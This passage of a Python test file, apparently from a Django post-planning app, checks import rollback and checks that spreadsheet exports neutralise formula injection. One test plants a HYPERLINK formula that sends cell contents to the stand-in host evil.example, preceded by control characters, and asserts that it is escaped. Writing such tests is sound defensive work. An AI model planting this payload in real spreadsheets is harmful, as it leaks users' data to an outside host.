    rows[150]["accounts"] = "@nobody_here"
    before = written()
    with pytest.raises(PlanInvalid) as caught:
        plan_commit(data=plan_bytes(*rows), file_name="mid.csv", actor=editor)
    assert [(error.row, error.column) for error in caught.value.preview.errors] == [(152, "accounts")]
    assert written() == before


def test_a_write_refused_halfway_through_the_import_leaves_nothing_behind(
    editor: Any, campaign_factory: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    # The posts, targets, revisions and erasure keys are written before the audit events: the
    # database refusing the events' read of the chain's end must take all of them back.
    campaign_factory(editor, name="Herzwochen 2027")
    before = written()

    def refuse_chain_read(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
        if "audit_auditevent" in sql and Post.objects.exists():
            raise DatabaseError("refused halfway")
        return execute(sql, params, many, context)

    with connection.execute_wrapper(refuse_chain_read), pytest.raises(DatabaseError, match="refused halfway"):
        plan_commit(data=plan_bytes(*bulk_rows(300, "half")), file_name="half.csv", actor=editor)
    assert written() == before
    assert chain_verify() is None


# Every C0 control character openpyxl cannot store (NUL cannot be stored in a post either).
CONTROLS = [chr(code) for code in range(0x20) if chr(code) not in "\t\n\r"]


def test_xlsx_export_holds_no_formula_when_a_control_character_comes_before_the_formula(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    rows = [plan_row(external_id=f"C-{index}", time=f"{8 + index // 60:02d}:{index % 60:02d}") for index in range(31)]
    plan_commit(data=plan_bytes(*rows), file_name="p.csv", actor=editor)
    storable = [char for char in CONTROLS if char != "\x00"]
    for index, char in enumerate(storable):
        Post.objects.filter(external_id=f"C-{index}").update(
            body=f'{char}=HYPERLINK("http://evil.example/?"&A1,"Klick")', title=f"{char}{char}+1", link=f"{char}@x"
        )
    exported = plan_export(posts=posts_for_plan_export(), file_format=XLSX)
    sheet = load_workbook(io.BytesIO(exported)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert not [cell.value for cell in cells if str(cell.value or "").startswith(("=", "+", "-", "@"))]
    bodies = {str(cell.value) for cell in cells if "HYPERLINK" in str(cell.value)}
    assert bodies == {'\'=HYPERLINK("http://evil.example/?"&A1,"Klick")'}


@pytest.mark.parametrize("char", CONTROLS)
def test_written_cells_are_never_formulas_whatever_control_character_leads(char: str) -> None:
    from plans.exporting import cell_export, rows_to_csv, rows_to_xlsx

    values = [f"{char}=1+1", f"{char}{char}@SUM(A1)", f"{char}\t=2", f"x{char}=3", f"{char}'=4"]
    # Rows as the plan export builds them, and rows a caller escaped before the control character went.
    for row in ([cell_export(value) for value in values], [cell_escape(value) for value in values]):
        sheet = load_workbook(io.BytesIO(rows_to_xlsx([row]))).active
        written = [cell for cells in sheet.iter_rows() for cell in cells]
        assert [cell.data_type for cell in written] == ["s"] * len(values)
        assert [cell_unescape(str(cell.value)) for cell in written] == ["=1+1", "@SUM(A1)", "\t=2", "x=3", "'=4"]
        text = rows_to_csv([row]).decode("utf-8-sig")
        parsed = next(csv.reader(io.StringIO(text)))
        assert not [cell for cell in parsed if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert [cell_unescape(cell) for cell in parsed] == ["=1+1", "@SUM(A1)", "\t=2", "x=3", "'=4"]
